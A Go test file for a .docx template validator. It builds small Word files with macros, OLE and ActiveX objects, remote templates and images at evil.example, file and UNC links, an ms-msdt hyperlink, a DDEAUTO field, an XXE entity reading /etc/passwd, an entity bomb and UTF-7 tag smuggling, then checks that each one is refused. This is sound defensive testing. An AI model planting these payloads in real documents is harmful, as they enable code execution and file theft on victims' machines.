package wordml_test

import (
	"errors"
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"jobdoc/internal/wordml"
)

const (
	relationshipsNS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
	microsoftNS     = "http://schemas.microsoft.com/office/2006/relationships"
	compound        = "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 and what an OLE file holds"
)

// namespaces that a fixture may use.
const namespaces = ` xmlns:w="` + mainNS + `" xmlns:r="` + relationshipsNS + `" xmlns:o="urn:schemas-microsoft-com:office:office"` +
	` xmlns:v="urn:schemas-microsoft-com:vml" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"` +
	` xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"`

// edit changes the smallest .docx.
type edit func(parts map[string]string)

func edited(edits ...edit) map[string]string {
	all := parts()
	all["word/document.xml"] = "<w:document" + namespaces + "><w:body><w:p/></w:body></w:document>"
	for _, e := range edits {
		e(all)
	}
	return all
}

func part(name, text string) edit { return func(all map[string]string) { all[name] = text } }

// body puts content into the main part.
func body(xml string) edit {
	return func(all map[string]string) {
		all["word/document.xml"] = strings.Replace(all["word/document.xml"], "<w:p/>", xml, 1)
	}
}

// typed gives a part a content type.
func typed(name, contentType string) edit {
	return func(all map[string]string) {
		const types = "[Content_Types].xml"
		all[types] = strings.Replace(all[types], "</Types>", fmt.Sprintf(`<Override PartName="/%s" ContentType="%s"/></Types>`, name, contentType), 1)
	}
}

// related adds a relationship to the main part; mode is "" or "External".
func related(kind, target, mode string) edit {
	if !strings.Contains(kind, "/") {
		kind = relationshipsNS + "/" + kind
	}
	attr := ""
	if mode != "" {
		attr = ` TargetMode="` + mode + `"`
	}
	return func(all map[string]string) {
		const rels = "word/_rels/document.xml.rels"
		all[rels] = strings.Replace(all[rels], "</Relationships>", fmt.Sprintf(`<Relationship Id="rId9" Type="%s" Target="%s"%s/></Relationships>`, kind, target, attr), 1)
	}
}

// mainType replaces the content type of the main part.
func mainType(contentType string) edit {
	return func(all map[string]string) {
		const types = "[Content_Types].xml"
		all[types] = strings.Replace(all[types], "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", contentType, 1)
	}
}

// wide is a text in UTF-16 with its byte order mark.
func wide(s string) string {
	b := []byte{0xff, 0xfe}
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return string(b)
}

// refusal is a .docx that is refused for what it holds, and how.
type refusal struct {
	name  string
	edits []edit
	part  string
	code  string
}

const doc = "word/document.xml"

var refusals = []refusal{
	{"macros by relationship", []edit{part("word/vbaProject.bin", compound), related(microsoftNS+"/vbaProject", "vbaProject.bin", "")}, doc, "macro"},
	{"macros by relationship, renamed", []edit{part("word/media/image7.png", "\x89PNG"), related(microsoftNS+"/vbaProject", "media/image7.png", "")}, doc, "macro"},
	{"macros by relationship to nothing", []edit{related(microsoftNS+"/vbaProject", "nowhere.bin", "")}, doc, "macro"},
	{"macros by content type", []edit{part("word/x.bin", "x"), typed("word/x.bin", "application/vnd.ms-office.vbaProject")}, "word/x.bin", "macro"},
	{"macros by content type, other case", []edit{part("word/x.bin", "x"), typed("WORD/x.bin", "Application/VND.ms-office.VBAproject")}, "word/x.bin", "macro"},
	{"macros by their bytes", []edit{part("word/media/image7.png", compound+strings.TrimPrefix(wide("_VBA_PROJECT"), "\xff\xfe"))}, "word/media/image7.png", "macro"},
	{"a .docm renamed", []edit{mainType("application/vnd.ms-word.document.macroEnabled.main+xml")}, doc, "macro"},
	{"a .dotm renamed", []edit{mainType("application/vnd.ms-word.template.macroEnabledTemplate.main+xml")}, doc, "macro"},
	{"the data of macros", []edit{part("word/vbaData.xml", "<x/>"), typed("word/vbaData.xml", "application/vnd.ms-word.vbaData+xml")}, "word/vbaData.xml", "macro"},
	{"customised keys", []edit{part("word/customizations.xml", "<x/>"), related(microsoftNS+"/keyMapCustomizations", "customizations.xml", "")}, doc, "macro"},
	{"a ribbon that calls macros", []edit{part("customUI/customUI.xml", "<x/>"), func(all map[string]string) {
		all["_rels/.rels"] = strings.Replace(all["_rels/.rels"], "</Relationships>", `<Relationship Id="rId9" Type="`+microsoftNS+`/ui/extensibility" Target="customUI/customUI.xml"/></Relationships>`, 1)
	}}, "_rels/.rels", "macro"},
	{"a form field with a macro on entry", []edit{body(`<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="Evil"/></w:ffData></w:fldChar></w:r></w:p>`)}, doc, "field-macro"},

	{"an ActiveX control by relationship", []edit{part("word/activeX/activeX1.xml", "<x/>"), related("control", "activeX/activeX1.xml", "")}, doc, "activex"},
	{"an ActiveX control by content type", []edit{part("word/x.xml", "<x/>"), typed("word/x.xml", "application/vnd.ms-office.activeX+xml")}, "word/x.xml", "activex"},
	{"an ActiveX control in the text", []edit{body(`<w:p><w:r><w:object><w:control r:id="rId9" w:name="Button"/></w:object></w:r></w:p>`)}, doc, "activex"},

	{"an OLE object by relationship", []edit{part("word/embeddings/oleObject1.bin", compound), related("oleObject", "embeddings/oleObject1.bin", "")}, doc, "ole"},
	{"an OLE object by content type", []edit{part("word/x.bin", "x"), typed("word/x.bin", "application/vnd.openxmlformats-officedocument.oleObject")}, "word/x.bin", "ole"},
	{"an OLE object by its bytes", []edit{part("word/media/image7.png", compound)}, "word/media/image7.png", "ole"},
	{"an OLE object by its bytes, said to be XML", []edit{part("word/x.xml", compound)}, "word/x.xml", "ole"},
	{"an OLE object in the text", []edit{body(`<w:p><w:r><w:object><o:OLEObject Type="Embed" r:id="rId9"/></w:object></w:r></w:p>`)}, doc, "ole"},
	{"a linked object in the text", []edit{body(`<w:p><w:r><w:object><w:objectLink r:id="rId9"/></w:object></w:r></w:p>`)}, doc, "ole"},

	{"an embedded package by relationship", []edit{part("word/embeddings/x.bin", "x"), related("package", "embeddings/x.bin", "")}, doc, "embedded-package"},
	{"an embedded workbook by content type", []edit{part("word/x.bin", "x"), typed("word/x.bin", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")}, "word/x.bin", "embedded-package"},
	{"an embedded document by its bytes", []edit{part("word/x.bin", "PK\x03\x04 and so on")}, "word/x.bin", "embedded-package"},
	{"an embedded PDF", []edit{part("word/x.bin", "%PDF-1.7")}, "word/x.bin", "embedded-package"},

	{"altChunk by relationship", []edit{part("word/chunk.xml", "<x/>"), related("aFChunk", "chunk.xml", "")}, doc, "alt-chunk"},
	{"altChunk in the text", []edit{body(`<w:altChunk r:id="rId9"/><w:p/>`)}, doc, "alt-chunk"},
	{"altChunk under another prefix", []edit{part(doc, `<q:document xmlns:q="`+mainNS+`" xmlns:z="`+relationshipsNS+`"><q:body><q:altChunk z:id="rId9"/></q:body></q:document>`)}, doc, "alt-chunk"},
	{"a web page", []edit{part("word/x.htm", "<html/>"), typed("word/x.htm", "text/html")}, "word/x.htm", "alt-chunk"},
	{"an RTF document, said to be a picture", []edit{part("word/media/image7.png", `{\rtf1 x}`)}, "word/media/image7.png", "alt-chunk"},

	{"a subdocument by relationship", []edit{related("subDocument", "sub.docx", "External")}, doc, "sub-document"},
	{"a subdocument in the text", []edit{body(`<w:subDoc r:id="rId9"/>`)}, doc, "sub-document"},
	{"frames by relationship", []edit{related("frame", "left.docx", "External")}, doc, "frames"},
	{"a frameset", []edit{part("word/webSettings.xml", `<w:webSettings`+namespaces+`><w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset></w:webSettings>`)}, "word/webSettings.xml", "frames"},
	{"an attached template", []edit{
		part("word/settings.xml", `<w:settings`+namespaces+`><w:attachedTemplate r:id="rId1"/></w:settings>`),
		part("word/_rels/settings.xml.rels", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="`+relationshipsNS+`/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`),
	}, "word/settings.xml", "attached-template"},
	{"a mail merge source", []edit{part("word/settings.xml", `<w:settings`+namespaces+`><w:mailMerge><w:connectString w:val="DSN=x"/></w:mailMerge></w:settings>`)}, "word/settings.xml", "mail-merge"},
	{"an add-in", []edit{part("word/webextensions/taskpanes.xml", "<x/>"), related("http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "webextensions/taskpanes.xml", "")}, doc, "add-in"},
	{"a player in a video", []edit{body(`<w:p><w:r><wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;script/>"/></w:r></w:p>`)}, doc, "add-in"},

	{"a picture from elsewhere", []edit{related("image", "https://evil.example/a.png", "External")}, doc, "external-reference"},
	{"a picture from a share", []edit{related("image", `file://evil/a.png`, "external")}, doc, "external-reference"},
	{"a header from elsewhere", []edit{related("header", "https://evil.example/h.xml", "External")}, doc, "external-reference"},
	{"an address that is not said to be outside", []edit{related("image", "https://evil.example/a.png", "")}, doc, "external-reference"},
	{"a share that is not said to be outside", []edit{related("image", "//evil.example/a.png", "Internal")}, doc, "external-reference"},
	{"a mode that is neither", []edit{related("image", "../media/a.png", "Extern")}, doc, "relationship-mode"},
	{"a hyperlink to a file", []edit{related("hyperlink", "file:///C:/x.exe", "External")}, doc, "hyperlink-scheme"},
	{"a hyperlink to a share", []edit{related("hyperlink", `\\evil\x`, "External")}, doc, "hyperlink-scheme"},
	{"a hyperlink that runs", []edit{related("hyperlink", "javascript:alert(1)", "External")}, doc, "hyperlink-scheme"},
	{"a hyperlink to a program of the system", []edit{related("hyperlink", "ms-msdt:/id PCWDiagnostic", "External")}, doc, "hyperlink-scheme"},
	{"a relationship id twice", []edit{related("image", "../media/a.png", ""), related("image", "../media/b.png", "")}, "word/_rels/document.xml.rels", "relationship-twice"},
	{"relationships in another case", []edit{part("word/_RELS/kopf.xml.RELS", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="`+relationshipsNS+`/image" Target="https://evil.example/" TargetMode="External"/></Relationships>`)}, "word/kopf.xml", "external-reference"},
	{"relationships under another prefix", []edit{part("word/_rels/kopf.xml.rels", `<p:Relationships xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships"><p:Relationship Id="rId1" Type="`+relationshipsNS+`/image" Target="https://evil.example/" TargetMode="External"/></p:Relationships>`)}, "word/kopf.xml", "external-reference"},
	{"relationships in UTF-16", []edit{part("word/_rels/kopf.xml.rels", wide(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="`+relationshipsNS+`/image" Target="https://evil.example/" TargetMode="External"/></Relationships>`))}, "word/kopf.xml", "external-reference"},
	{"a picture of VML from elsewhere", []edit{body(`<w:p><w:r><w:pict><v:shape><v:imagedata src="http://evil.example/a.png"/></v:shape></w:pict></w:r></w:p>`)}, doc, "external-reference"},
	{"another picture of VML from elsewhere", []edit{body(`<w:p><w:r><w:pict><v:shape><v:fill o:althref="http://evil.example/a.png"/></v:shape></w:pict></w:r></w:p>`)}, doc, "external-reference"},
	{"a shape of VML that links to a file", []edit{body(`<w:p><w:r><w:pict><v:shape href="file:///C:/x.exe"/></w:pict></w:r></w:p>`)}, doc, "hyperlink-scheme"},

	{"a script in a drawing", []edit{part("word/media/a.svg", `<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>`), typed("word/media/a.svg", "image/svg+xml")}, "word/media/a.svg", "script"},
	{"a script in a drawing, said to be a photo", []edit{part("word/media/a.jpg", `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:g onload="x"/></s:svg>`)}, "word/media/a.jpg", "script"},
	{"a drawing that fetches", []edit{part("word/media/a.svg", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink"><image l:href="https://evil.example/"/></svg>`)}, "word/media/a.svg", "external-reference"},
	{"a picture that is a program", []edit{part("word/media/a.eps", "%!PS-Adobe-3.0 EPSF-3.0")}, "word/media/a.eps", "postscript"},
	{"a program", []edit{part("word/media/a.png", "MZ"+strings.Repeat("\x00", 58)+"\x40\x00\x00\x00PE\x00\x00")}, "word/media/a.png", "executable"},

	{"a document type", []edit{part("word/kopf.xml", `<!DOCTYPE x><w:hdr`+namespaces+`/>`)}, "word/kopf.xml", "xml-doctype"},
	{"a document type in a part that nothing reads", []edit{part("customXml/item1.xml", `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>`)}, "customXml/item1.xml", "xml-doctype"},
	{"a document type in the list of types", []edit{func(all map[string]string) { all["[Content_Types].xml"] = "<!DOCTYPE x>" + all["[Content_Types].xml"] }}, "[Content_Types].xml", "xml-doctype"},
	{"a document type in the relationships", []edit{func(all map[string]string) { all["_rels/.rels"] = "<!DOCTYPE x>" + all["_rels/.rels"] }}, "_rels/.rels", "xml-doctype"},
	{"a document type in UTF-16", []edit{part("word/kopf.xml", wide(`<!DOCTYPE x><w:hdr`+namespaces+`/>`))}, "word/kopf.xml", "xml-doctype"},
	{"an entity", []edit{body(`<w:p><w:r><w:t>&evil;</w:t></w:r></w:p>`)}, doc, "xml-entity"},
	{"a bomb of entities", []edit{part("word/kopf.xml", `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>`)}, "word/kopf.xml", "xml-doctype"},
	{"an encoding that hides tags", []edit{part("word/kopf.xml", `<?xml version="1.0" encoding="UTF-7"?><x>+ADw-!DOCTYPE+AD4-</x>`)}, "word/kopf.xml", "xml-encoding"},
	{"XML 1.1", []edit{part("word/kopf.xml", `<?xml version="1.1"?><x/>`)}, "word/kopf.xml", "xml-malformed"},
	{"a second declaration", []edit{part("word/kopf.xml", `<x><?xml version="1.0" encoding="UTF-7"?></x>`)}, "word/kopf.xml", "xml-malformed"},
	{"elements too deep", []edit{part("customXml/item1.xml", strings.Repeat("<a>", 257)+strings.Repeat("</a>", 257))}, "customXml/item1.xml", "xml-too-deep"},
	{"too many attributes", []edit{part("customXml/item1.xml", "<a"+manyAttributes(257)+"/>")}, "customXml/item1.xml", "xml-too-long"},
	{"a part whose type is given twice", []edit{typed(doc, "application/xml")}, "[Content_Types].xml", "type-twice"},
	{"a main part that is no XML", []edit{part("word/x.bin", "x"), func(all map[string]string) {
		all["_rels/.rels"] = strings.Replace(all["_rels/.rels"], "word/document.xml", "word/x.bin", 1)
	}, typed("word/x.bin", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")}, "word/x.bin", "xml-malformed"},
	{"two main parts", []edit{func(all map[string]string) {
		all["_rels/.rels"] = strings.Replace(all["_rels/.rels"], "</Relationships>", `<Relationship Id="rId2" Type="`+relationshipsNS+`/officeDocument" Target="word/kopf.xml"/></Relationships>`, 1)
	}}, "word/kopf.xml", "main-twice"},
}

func manyAttributes(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, ` a%d=""`, i)
	}
	return b.String()
}

func TestOpenRefusesWhatATemplateMayNotHold(t *testing.T) {
	t.Parallel()
	for _, r := range refusals {
		_, err := wordml.Open(pack(t, edited(r.edits...)))
		if !slices.ContainsFunc(wordml.Faults(err), func(e *wordml.FileError) bool { return e.Part == r.part && e.Code == r.code }) {
			t.Errorf("%s: error = %v, want %s in %s", r.name, wordml.Faults(err), r.code, r.part)
		}
		for _, e := range wordml.Faults(err) {
			if e.Detail == "" || e.English == "" || strings.Contains(e.Detail+e.English, "%!") {
				t.Errorf("%s: sentences %q and %q", r.name, e.Detail, e.English)
			}
		}
	}
}

func TestOpenTellsAllFaultsOfItsPartsAtOnce(t *testing.T) {
	t.Parallel()
	_, err := wordml.Open(pack(t, edited(
		part("word/vbaProject.bin", compound), related(microsoftNS+"/vbaProject", "vbaProject.bin", ""),
		part("customXml/item1.xml", "<!DOCTYPE x><x/>"),
		body(`<w:p><w:fldSimple w:instr="DDEAUTO x"/></w:p>`),
	)))
	got := map[string]string{}
	for _, e := range wordml.Faults(err) {
		got[e.Part] += e.Code + " "
	}
	want := map[string]string{doc: "field-external macro ", "word/vbaProject.bin": "ole ", "customXml/item1.xml": "xml-doctype "}
	if !maps.Equal(got, want) {
		t.Errorf("faults = %v, want %v", got, want)
	}
}

func TestMessagesHoldLittleOfTheFile(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("长", 5000)
	_, err := wordml.Open(pack(t, edited(
		part("word/"+strings.Repeat("x", 900)+".png", compound),
		body("<w:p><w:r><w:t>&"+long+"\u202e;</w:t></w:r></w:p>"),
	)))
	for _, e := range wordml.Faults(err) {
		if len(e.Part)+len(e.Detail)+len(e.English) > 2000 || strings.ContainsRune(e.Error()+e.Detail, '\u202e') {
			t.Errorf("%d bytes of part, %d of %q", len(e.Part), len(e.Detail), e.Detail)
		}
	}
}

// FuzzText opens files whose text is made up: the checksums of the archive keep
// [FuzzOpen] from getting far into it.
func FuzzText(f *testing.F) {
	for _, r := range refusals {
		f.Add(edited(r.edits...)[doc])
	}
	for _, s := range []string{
		begin + instr("D") + instr("DE x") + separate + finish, ignored + whole("PAGE") + `</mc:Choice></mc:AlternateContent>`,
		`<w:fldSimple w:instr="HYPERLINK &quot;https://a&quot;">` + whole("QUOTE x") + `</w:fldSimple>`, begin + `<w:del>` + begin + `</w:del>` + finish + finish,
	} {
		f.Add("<w:document" + namespaces + "><w:body><w:p>" + s + "</w:p></w:body></w:document>")
	}
	f.Fuzz(func(t *testing.T, text string) {
		p, err := wordml.Open(pack(t, edited(part(doc, text))))
		if err != nil {
			if len(wordml.Faults(err)) == 0 {
				t.Fatal(err)
			}
			return
		}
		// What opens still does when its tree has been written anew.
		root, err := p.Part(doc)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := wordml.Open(pack(t, edited(part(doc, string(root.AppendPart(nil)))))); err != nil {
			t.Fatalf("written anew it is refused: %v", err)
		}
	})
}

// TestMessagesSayWhatToDo wants a remedy with every fault but those of size.
func TestMessagesSayWhatToDo(t *testing.T) {
	t.Parallel()
	for _, r := range refusals {
		_, err := wordml.Open(pack(t, edited(r.edits...)))
		for _, e := range wordml.Faults(err) {
			if !errors.Is(e, wordml.ErrTooLarge) && !strings.Contains(e.Detail, "请") {
				t.Errorf("%s: %s names no remedy", r.name, e.Detail)
			}
		}
	}
}
